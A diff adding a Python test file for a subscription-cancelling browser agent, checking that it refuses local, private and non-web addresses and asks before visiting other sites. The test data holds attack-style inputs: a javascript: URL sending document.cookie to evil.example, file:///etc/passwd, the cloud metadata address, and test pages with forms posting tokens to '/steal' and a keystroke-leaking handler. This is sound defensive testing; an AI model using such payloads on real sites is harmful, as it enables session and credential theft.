@@ -1,0 +1,383 @@
+"""The run's reach: the browser holds a person's signed-in sessions, so it goes only where the
+service lives, and nowhere else without a yes worded for what it is.
+
+Two servers on 127.0.0.1: the service (the run's start origin) and a "local service" standing
+in for the person's router or another app, which must never be reached. Chromium resolves
+every name to 127.0.0.1 here (``--host-resolver-rules``), so ``evil.example`` is another web
+site served on this machine, and nothing can leave it. The servers record every request they
+get: the page's word counts for nothing.
+"""
+
+from __future__ import annotations
+
+import threading
+from collections.abc import AsyncIterator, Iterator
+from http.server import BaseHTTPRequestHandler
+from typing import ClassVar
+
+import pytest
+import pytest_asyncio
+
+from harness.approvals import ScriptedApprovals
+from subterminator.browser.playwright_browser import LaunchOptions, PlaywrightBrowser
+from subterminator.browser.reach import Reach, is_private_host
+from subterminator.models.conversation import ToolCall
+from subterminator.services import NETFLIX
+from subterminator.services.base import ServiceConfig
+from subterminator.simulator.server import LocalServer
+from subterminator.stack import Reply, ToolStack
+from subterminator.stack.reach import build_reach
+from subterminator.tools.server import BrowserToolServer
+from tests.browser_helpers import by_name
+
+# -- the rule, on its own ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "host",
+    [
+        "127.0.0.1",
+        "127.7.7.7",
+        "localhost",
+        "app.localhost",
+        "10.0.0.8",
+        "192.168.1.1",
+        "172.16.4.2",
+        "169.254.169.254",
+        "100.64.0.1",
+        "0.0.0.0",
+        "[::1]",
+        "[fe80::1]",
+        "[fd00::5]",
+        "[::ffff:127.0.0.1]",
+        "printer.local",
+        "router",
+        "2130706433",
+        "0x7f.1",
+        "127.1",
+    ],
+)
+def test_local_and_private_hosts_are_local(host: str) -> None:
+    assert is_private_host(host)
+
+
+@pytest.mark.parametrize("host", ["netflix.com", "www.paypal.com", "8.8.8.8", "[2606:4700::1]"])
+def test_public_hosts_are_not(host: str) -> None:
+    assert not is_private_host(host)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "file:///etc/passwd",
+        "FILE:///root/.subterminator/browser-profile/",
+        "chrome://version",
+        "chrome://history",
+        "view-source:https://www.netflix.com/account",
+        "data:text/html,<h1>hi</h1>",
+        "javascript:fetch('//evil.example/'+document.cookie)",
+        "blob:https://www.netflix.com/1234",
+        "about:config",
+        "devtools://devtools/bundled/inspector.html",
+        "ftp://files.example/",
+        "http://127.0.0.1:9/admin",
+        "http://localhost:631/",
+        "http://192.168.0.1/",
+        "http://[::1]:8080/",
+    ],
+)
+def test_refused_outright(url: str) -> None:
+    reach = build_reach(NETFLIX, "https://www.netflix.com/account")
+    assert reach.verdict(url).kind == "refused"
+
+
+def test_the_service_and_its_providers_are_in_and_others_ask() -> None:
+    reach = build_reach(NETFLIX, "https://www.netflix.com/account", ["help.example"])
+    for url in (
+        "https://www.netflix.com/cancelplan",
+        "https://netflix.com/",
+        "https://help.netflix.com/x",
+        "https://www.paypal.com/checkout",
+        "https://docs.help.example/a",
+        "about:blank",
+    ):
+        assert reach.verdict(url).kind == "in", url
+    for url in ("https://notnetflix.com/", "https://netflix.com.evil.example/", "https://x.io/"):
+        verdict = reach.verdict(url)
+        assert verdict.kind == "ask", url
+        assert "is not Netflix" in verdict.reason
+
+
+def test_the_start_origin_is_in_but_not_the_rest_of_loopback() -> None:
+    reach = build_reach(NETFLIX, "http://127.0.0.1:8765/account")
+    assert reach.verdict("http://127.0.0.1:8765/cancelplan").kind == "in"
+    assert reach.verdict("http://127.0.0.1:8766/").kind == "refused"
+    assert reach.verdict("http://localhost:8765/").kind == "refused"
+    assert reach.verdict("https://127.0.0.1:8765/").kind == "refused"
+
+
+def test_a_file_start_page_is_that_page_only() -> None:
+    reach = build_reach(NETFLIX, "file:///tmp/flow/account.html")
+    assert reach.verdict("file:///tmp/flow/account.html").kind == "in"
+    assert reach.verdict("file:///tmp/flow/other.html").kind == "refused"
+    assert reach.verdict("file:///etc/passwd").kind == "refused"
+
+
+def test_a_yes_is_for_that_page_once_not_its_site() -> None:
+    reach = build_reach(NETFLIX, "https://www.netflix.com/account")
+    reach.grant("https://evil.example/a?x=1")
+    assert reach.verdict("https://evil.example/a?x=1#top").kind == "in"
+    assert reach.verdict("https://evil.example/b").kind == "ask"
+    assert reach.verdict("https://evil.example/a?x=2").kind == "ask"
+    reach.consume("https://evil.example/a?x=1")
+    assert reach.verdict("https://evil.example/a?x=1").kind == "ask"
+
+
+def test_a_service_without_domains_lives_on_its_start_host() -> None:
+    acme = ServiceConfig(name="acme", display_name="Acme", initial_url="https://www.acme.example/")
+    reach = build_reach(acme)
+    assert reach.verdict("https://billing.acme.example/cancel").kind == "in"
+    assert reach.verdict("https://acme.example.evil.example/").kind == "ask"
+
+
+def test_subresources_to_local_addresses_are_refused_from_anywhere_but_the_start() -> None:
+    reach = Reach("Netflix", origins=frozenset({"http://127.0.0.1:8765"}))
+    assert not reach.subresource_refused("http://127.0.0.1:8765/api")
+    assert reach.subresource_refused("http://127.0.0.1:9000/api")
+    assert reach.subresource_refused("ws://localhost:9000/socket")
+    assert not reach.subresource_refused("https://cdn.example/x.js")
+    assert not reach.subresource_refused("data:image/png;base64,AAAA")
+
+
+# -- in a real browser -----------------------------------------------------------------------
+
+
+class _Recording(BaseHTTPRequestHandler):
+    pages: ClassVar[dict[str, str]] = {}
+    hits: ClassVar[list[str]] = []
+    lock: ClassVar[threading.Lock] = threading.Lock()
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+    def _serve(self) -> None:
+        length = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(length).decode() if length else ""
+        with self.lock:
+            self.hits.append(f"{self.command} {self.path} {body}".strip())
+        path = self.path.split("?")[0]
+        if path.startswith("/go/"):  # /go/<port>/<path>: a redirect to that local port
+            _, _, port, rest = path.split("/", 3)
+            target = f"http://{'127.0.0.1' if port.isdigit() else port}"
+            target += f":{port}/{rest}" if port.isdigit() else f"/{rest}"
+            self.send_response(302)
+            self.send_header("Location", target)
+            self.end_headers()
+            return
+        page = self.pages.get(path, "<!doctype html><title>ok</title><h1>A page</h1>")
+        page = page.replace("{{LOCAL}}", str(LOCAL_PORT[0])).replace(
+            "{{EVIL}}", f"http://evil.example:{LOCAL_PORT[0]}"
+        )
+        data = page.encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.send_header("Content-Length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+
+    do_GET = do_POST = _serve
+
+
+LOCAL_PORT = [0]
+
+# In several languages: what decides is where a control goes, never what it says.
+SERVICE_PAGES = {
+    "/account": """<!doctype html><html lang="ka"><head><title>ანგარიში</title></head><body>
+<h1>ანგარიში</h1>
+<a href="http://127.0.0.1:{{LOCAL}}/reset-token">პაროლის აღდგენა</a>
+<a href="/go/{{LOCAL}}/one-time-code">ჩემი კოდი</a>
+<a href="{{EVIL}}/landing">Tovuti ya msaada</a>
+<a href="{{EVIL}}/other">อีกหน้าหนึ่ง</a>
+<form action="{{EVIL}}/collect" method="get"><input name="q" value="token-123">
+<button>Tafuta</button></form>
+<form action="{{EVIL}}/steal" method="post"><input name="code" value="654321">
+<button>Wyślij</button></form>
+<button onclick="window.open('http://127.0.0.1:{{LOCAL}}/popup')">Fungua dirisha</button>
+<input aria-label="Jina" oninput="fetch('http://127.0.0.1:{{LOCAL}}/keys?v='+this.value)">
+</body></html>""",
+    "/framed": """<!doctype html><title>Frames</title><h1>Frames</h1>
+<iframe src="http://127.0.0.1:{{LOCAL}}/in-frame"></iframe>
+<iframe src="/go/{{LOCAL}}/frame-hop"></iframe>""",
+}
+
+
+@pytest.fixture(scope="module")
+def servers() -> Iterator[tuple[LocalServer, type[_Recording]]]:
+    local = type("Local", (_Recording,), {"pages": {}, "hits": []})
+    service = type("Service", (_Recording,), {"pages": SERVICE_PAGES, "hits": []})
+    with LocalServer(local) as local_server, LocalServer(service) as service_server:
+        LOCAL_PORT[0] = int(local_server.base_url.rsplit(":", 1)[1])
+        yield service_server, local
+
+
+@pytest_asyncio.fixture(loop_scope="session", scope="module")
+async def chromium() -> AsyncIterator[PlaywrightBrowser]:
+    # every name resolves to this machine: evil.example is "another site", and nothing leaves
+    options = LaunchOptions(extra_args=("--host-resolver-rules=MAP * 127.0.0.1",))
+    async with await PlaywrightBrowser.launch(options) as browser:
+        yield browser
+
+
+class Run:
+    def __init__(self, stack: ToolStack, approvals: ScriptedApprovals | None) -> None:
+        self.stack, self.approvals = stack, approvals
+        self.last: Reply | None = None
+
+    async def call(self, name: str, **arguments: object) -> Reply:
+        self.last = await self.stack.execute(ToolCall(id="t", name=name, arguments=arguments))
+        return self.last
+
+    async def click(self, name: str) -> Reply:
+        assert self.last is not None
+        ref = by_name(self.last.snapshot, name).ref
+        return await self.call("browser_click", ref=ref)
+
+
+async def start(
+    browser: PlaywrightBrowser,
+    servers: tuple[LocalServer, type[_Recording]],
+    answers: list[bool] | None,
+    page: str = "/account",
+) -> Run:
+    service, local = servers
+    local.hits.clear()
+    start_url = f"{service.base_url}{page}"
+    approvals = ScriptedApprovals(answers) if answers is not None else None
+    stack = ToolStack(BrowserToolServer(browser), NETFLIX, approvals, start_url=start_url)
+    await browser.navigate(start_url)
+    run = Run(stack, approvals)
+    await run.call("get_snapshot")
+    return run
+
+
+pytestmark = pytest.mark.browser
+
+
+async def test_a_link_to_a_local_service_is_stopped_unasked(
+    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
+) -> None:
+    run = await start(chromium, servers, answers=[])
+    reply = await run.click("პაროლის აღდგენა")
+    assert servers[1].hits == []
+    assert "/account" in reply.snapshot.page.url
+    assert "local or private network address" in (reply.message or "")
+
+
+async def test_a_redirect_to_a_local_service_is_stopped_where_it_is_made(
+    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
+) -> None:
+    run = await start(chromium, servers, answers=[])
+    reply = await run.click("ჩემი კოდი")
+    assert servers[1].hits == []  # the 302's target never got a request (nor its cookies)
+    assert "one-time-code" in (reply.message or "")
+
+
+async def test_another_site_is_asked_for_in_its_own_words_and_no_means_no(
+    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
+) -> None:
+    run = await start(chromium, servers, answers=[False])
+    reply = await run.click("Tovuti ya msaada")
+    assert servers[1].hits == []
+    assert run.approvals is not None
+    (asked,) = run.approvals.requests
+    assert asked.action.startswith("Open evil.example, which is not Netflix")
+    assert "read by the model" in asked.action
+    assert "/account" in reply.snapshot.page.url
+    assert "declined" in (reply.message or "")
+
+
+async def test_a_yes_opens_that_page_once_and_not_its_site(
+    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
+) -> None:
+    run = await start(chromium, servers, answers=[True, False])
+    reply = await run.click("Tovuti ya msaada")
+    assert servers[1].hits == ["GET /landing"]
+    assert reply.snapshot.page.url.endswith("/landing")
+    await run.call("browser_open", url=f"{servers[0].base_url}/account")
+    await run.click("อีกหน้าหนึ่ง")  # the same site, another page: asked again (no)
+    assert servers[1].hits == ["GET /landing"]
+    assert run.approvals is not None
+    assert len(run.approvals.requests) == 2
+
+
+async def test_forms_to_another_site_ask_or_stop(
+    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
+) -> None:
+    run = await start(chromium, servers, answers=[False])
+    await run.click("Tafuta")  # a GET form carrying a token to another site: asked, no
+    await run.click("Wyślij")  # a POST to another site: stopped, never re-sent
+    assert servers[1].hits == []
+    assert "not sent" in (run.last.message if run.last else "")
+
+
+async def test_script_windows_and_requests_to_local_services_are_refused(
+    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
+) -> None:
+    run = await start(chromium, servers, answers=[])
+    await run.click("Fungua dirisha")
+    field = by_name(run.last.snapshot if run.last else None, "Jina")  # type: ignore[arg-type]
+    await run.call("browser_fill", ref=field.ref, value="hello")
+    assert servers[1].hits == []
+
+
+async def test_frames_and_their_redirects_to_local_services_do_not_load(
+    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
+) -> None:
+    await start(chromium, servers, answers=[], page="/framed")
+    assert servers[1].hits == []
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "file:///etc/passwd",
+        "chrome://version",
+        "chrome://history",
+        "view-source:http://127.0.0.1:1/",
+        "data:text/html,<script>document.title='ran'</script>",
+        "javascript:document.title='ran'",
+        "http://127.0.0.1:{{LOCAL}}/admin",
+    ],
+)
+async def test_typed_addresses_outside_the_web_are_refused_without_a_question(
+    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]], url: str
+) -> None:
+    run = await start(chromium, servers, answers=[])  # any question would fail the test
+    url = url.replace("{{LOCAL}}", str(LOCAL_PORT[0]))
+    for _ in range(2):  # a second try is refused too: nothing was granted
+        reply = await run.call("browser_open", url=url)
+        assert reply.result["success"] is False
+        assert reply.result["error"] == "invalid_params"
+    assert "/account" in reply.snapshot.page.url
+    assert reply.snapshot.page.title != "ran"
+    assert servers[1].hits == []
+
+
+async def test_allow_site_widens_the_reach(
+    chromium: PlaywrightBrowser, servers: tuple[LocalServer, type[_Recording]]
+) -> None:
+    service, local = servers
+    local.hits.clear()
+    start_url = f"{service.base_url}/account"
+    stack = ToolStack(
+        BrowserToolServer(chromium),
+        NETFLIX,
+        ScriptedApprovals([]),
+        start_url=start_url,
+        allow_sites=("evil.example",),
+    )
+    await chromium.navigate(start_url)
+    run = Run(stack, None)
+    await run.call("get_snapshot")
+    await run.click("Tovuti ya msaada")
+    assert local.hits == ["GET /landing"]
